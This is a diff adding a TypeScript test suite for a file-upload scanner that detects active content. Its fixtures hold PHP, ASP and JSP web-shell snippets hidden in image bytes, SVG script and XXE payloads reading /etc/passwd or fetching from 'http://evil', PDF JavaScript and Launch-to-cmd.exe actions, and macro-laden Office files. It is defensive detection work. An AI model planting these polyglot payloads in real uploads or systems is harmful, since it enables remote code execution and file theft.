@@ -1,0 +1,172 @@
+import { deflateSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { gif, jpeg, pdf, png, zip } from '../test-support/bytes.js';
+import { auditor, found } from '../test-support/scan.js';
+
+const audit = auditor();
+const active = async (name: string, bytes: string | Buffer, policy?: string): Promise<string[]> =>
+  found(await audit({ [name]: bytes }, policy), 'active-content').map((f) => f.split(' ')[1]!.split('/')[1]!);
+
+const GIF_WITH_PHP = Buffer.concat([
+  gif().subarray(0, 13),
+  Buffer.from('!\xfe\x1d<?php system($_GET[0]); ?>\x00', 'latin1'),
+  gif().subarray(13),
+]);
+const big = (bytes: Buffer, extra = 64 * 1024): Buffer => Buffer.concat([bytes, Buffer.alloc(extra, 0x41)]);
+
+describe('active-content: server-side code in binary files', () => {
+  it.each([
+    ['a JPEG', 'a.jpg', jpeg(), []],
+    ['a JPEG whose bytes contain <?', 'a.jpg', jpeg('<? not php <% neither'), []],
+    ['a PNG', 'a.png', png(), []],
+    ['PHP in a GIF comment', 'a.gif', GIF_WITH_PHP, ['server-code']],
+    ['PHP in a JPEG COM segment', 'a.jpg', jpeg('<?php eval($_POST["x"]); ?>'), ['server-code']],
+    [
+      'PHP appended after a small PNG',
+      'a.png',
+      Buffer.concat([png(), Buffer.from('<?php echo 1; ?>')]),
+      ['server-code'],
+    ],
+    [
+      'PHP appended after a large PNG (tail)',
+      'a.png',
+      Buffer.concat([big(png()), Buffer.from('<?php echo 1; ?>')]),
+      ['server-code'],
+    ],
+    ['short echo tag', 'a.gif', Buffer.concat([gif(), Buffer.from('<?= $_GET[1] ?>')]), ['server-code']],
+    ['JSP in a JPEG', 'a.jpg', jpeg('<%@ page import="java.io.*" %>'), ['server-code']],
+    [
+      'ASP in a PNG tail',
+      'a.png',
+      Buffer.concat([png(), Buffer.from('<% eval request("x") %>')]),
+      ['server-code'],
+    ],
+    [
+      'HTML appended after a GIF',
+      'a.gif',
+      Buffer.concat([gif(), Buffer.from('<script>alert(1)</script>')]),
+      ['html'],
+    ],
+  ])('%s', async (_label, name, bytes, expected) => {
+    expect(await active(name, bytes)).toEqual(expected);
+  });
+
+  it('does not see a payload in the middle of a large file: maxSniffBytes and maxTailBytes are the bounds', async () => {
+    const middle = Buffer.concat([big(png()), Buffer.from('<?php echo 1; ?>'), Buffer.alloc(64 * 1024)]);
+    expect(await active('a.png', middle)).toEqual([]);
+    expect(await active('a.png', middle, 'bounds: { maxSniffBytes: 1048576 }')).toEqual(['server-code']);
+  });
+});
+
+describe('active-content: markup', () => {
+  const svg = (body: string, attrs = ''): string =>
+    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attrs}>${body}</svg>`;
+  it.each([
+    ['a plain SVG icon', svg('<path d="M0 0h24v24H0z" fill="none"/><use href="#a"/>'), []],
+    ['script', svg('<script>alert(1)</script>'), ['svg-script']],
+    ['onload', svg('<rect/>', ' onload="alert(1)"'), ['svg-script']],
+    ['javascript: URL', svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'), ['svg-script']],
+    ['foreignObject', svg('<foreignObject><iframe src="x"/></foreignObject>'), ['svg-script']],
+    ['external image', svg('<image href="https://tracker.example/p.gif"/>'), ['external-reference']],
+    [
+      'XXE',
+      `<?xml version="1.0"?>\n<!DOCTYPE svg [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>\n${svg('<text>&x;</text>')}`,
+      ['xxe'],
+    ],
+  ])('%s', async (_label, text, expected) => {
+    expect(await active('logo.svg', text)).toEqual(expected);
+  });
+
+  it('reports HTML documents whatever their extension, and leaves XML without entities alone', async () => {
+    expect(await active('page.html', '<!DOCTYPE html><html><body>hi</body></html>')).toEqual(['html']);
+    expect(
+      await active('feed.xml', '<?xml version="1.0"?>\n<!DOCTYPE feed>\n<feed><title>x</title></feed>'),
+    ).toEqual([]);
+    expect(
+      await active(
+        'x.xml',
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p PUBLIC "x" "http://evil/x.dtd"> %p;]><r/>',
+      ),
+    ).toEqual(['xxe']);
+  });
+
+  it('says when a markup file was longer than it scanned', async () => {
+    const long = `<svg xmlns="http://www.w3.org/2000/svg">${' '.repeat(300 * 1024)}<script>x</script></svg>`;
+    expect(await active('big.svg', long)).toEqual(['incomplete']);
+  });
+});
+
+describe('active-content: PDF', () => {
+  const flate = (text: string): Buffer => {
+    const body = deflateSync(Buffer.from(text));
+    return Buffer.concat([
+      pdf(),
+      Buffer.from(`4 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length ${body.length} >>\nstream\n`),
+      body,
+      Buffer.from('\nendstream\nendobj\n'),
+    ]);
+  };
+  it.each([
+    ['a plain PDF', pdf(), []],
+    [
+      'a PDF with ordinary links',
+      pdf('/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>] '),
+      [],
+    ],
+    ['an OpenAction to a page', pdf('/OpenAction [3 0 R /Fit] '), []],
+    ['JavaScript', pdf('/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> '), ['pdf-action']],
+    ['obfuscated name', pdf('/OpenAction << /S /J#61vaScript /J#53 (x) >> '), ['pdf-action']],
+    ['Launch', pdf('/OpenAction << /S /Launch /F (cmd.exe) >> '), ['pdf-action']],
+    [
+      'JavaScript inside a compressed object stream',
+      flate('<< /S /JavaScript /JS (app.alert(1)) >>'),
+      ['pdf-action'],
+    ],
+    [
+      'an embedded file',
+      pdf('/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> '),
+      ['pdf-attachment'],
+    ],
+  ])('%s', async (_label, bytes, expected) => {
+    expect(await active('doc.pdf', bytes)).toEqual(expected);
+  });
+
+  it('stops inflating at maxInflateBytes and says so', async () => {
+    const bomb = flate(`${' '.repeat(2 * 1024 * 1024)}/JavaScript`);
+    expect(await active('doc.pdf', bomb, 'bounds: { maxInflateBytes: 1MiB }')).toEqual(['incomplete']);
+  });
+});
+
+describe('active-content: Office macros', () => {
+  const docx = (extra: Record<string, string> = {}) =>
+    zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...extra });
+  it.each([
+    ['a docx without macros', 'letter.docx', docx(), []],
+    [
+      'a docm with vbaProject.bin',
+      'letter.docm',
+      docx({ 'word/vbaProject.bin': 'Attribute VB_Name' }),
+      ['macro'],
+    ],
+    [
+      'an xlsx that smuggles vbaProject.bin',
+      'sheet.xlsx',
+      zip({ '[Content_Types].xml': '<Types/>', 'xl/vbaProject.bin': 'x' }),
+      ['macro'],
+    ],
+    [
+      'an ODT with Basic macros',
+      'doc.odt',
+      zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'Basic/Standard/Module1.xml': '<x/>' }),
+      ['macro'],
+    ],
+    [
+      'an ODT without',
+      'doc.odt',
+      zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<x/>' }),
+      [],
+    ],
+  ])('%s', async (_label, name, bytes, expected) => {
+    expect(await active(name, bytes)).toEqual(expected);
+  });
+});
